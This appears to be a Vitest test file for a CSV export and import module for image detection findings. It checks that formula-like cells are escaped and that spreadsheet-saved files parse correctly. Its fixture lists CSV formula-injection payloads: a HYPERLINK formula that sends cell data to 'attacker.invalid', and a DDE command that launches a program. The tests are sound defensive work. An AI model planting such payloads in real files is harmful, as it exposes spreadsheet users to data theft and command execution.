import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { filesOf, readTexts, textOf } from '../fixtures/memory-files.ts'
import { csv } from './csv.ts'

const size = { width: 8, height: 6 }
const box = { x: -1, y: 2.5, width: 3, height: 4 }

/** What spreadsheets compute or run, by OWASP's list. */
const formulas = [
  '=HYPERLINK("http://attacker.invalid/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1;2)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
]

const pictures = formulas.map((label, index) => ({
  name: index === 0 ? '=a.jpg' : `${index}.jpg`,
  size,
  findings: [{ label, score: 0.5, box, raw: undefined, issues: [] }],
}))
const classes = formulas.map((name, id) => ({ id, name }))

test('no cell begins a formula, and numbers stay numbers', async () => {
  const text = textOf(await filesOf(csv(), { classes, pictures }), 'findings.csv')
  const [head, first] = text.split('\r\n')
  expect(head).toBe(
    'picture,picture_width,picture_height,label,score,x,y,width,height,point_x,point_y',
  )
  expect(first).toBe(
    `"'=a.jpg",8,6,"'=HYPERLINK(""http://attacker.invalid/?""&A1,""x"")",0.5,-1,2.5,3,4,,`,
  )
  const cells = Papa.parse<string[]>(text.trimEnd()).data.flat()
  expect(cells.filter((cell) => /^[=+@\t\r\n＝]|^-(?!1$)/.test(cell))).toEqual([])
  expect(cells).toContain('-1')
})

test('formulas come back as they were', async () => {
  const files = await filesOf(csv(), { classes, pictures })
  const read = await readTexts(csv(), { 'findings.csv': textOf(files, 'findings.csv') })
  expect(read.pictures.map(({ findings }) => findings[0]?.label).sort()).toEqual(
    formulas.toSorted(),
  )
})

test('what a spreadsheet saves is read: semicolons, a BOM and another order', async () => {
  const text =
    '\ufefflabel;picture;picture_width;picture_height;x;y;width;height\r\ncup;a.jpg;8;6;1;2;3;4\r\n;b.jpg;8;6;;;;\r\n'
  const { pictures: read } = await readTexts(csv(), { 'findings.csv': text })
  expect(read).toMatchObject([
    { name: 'a.jpg', findings: [{ label: 'cup', box: { x: 1, y: 2, width: 3, height: 4 } }] },
    { name: 'b.jpg', findings: [] },
  ])
})

test('commas before fractions are read, and a score that is none is reported', async () => {
  const text =
    'picture;picture_width;picture_height;label;score;x;y;width;height\na.jpg;8;6;cup;0,9;1,5;2;3;4\na.jpg;8;6;cup;90%;1;2;3;4\n'
  const { pictures: read, issues } = await readTexts(csv(), { 'findings.csv': text })
  expect(read[0]!.findings).toMatchObject([{ score: 0.9, box: { x: 1.5 } }, { box: { x: 1 } }])
  expect(issues).toMatchObject([{ code: 'entry-invalid', picture: 'a.jpg' }])
})
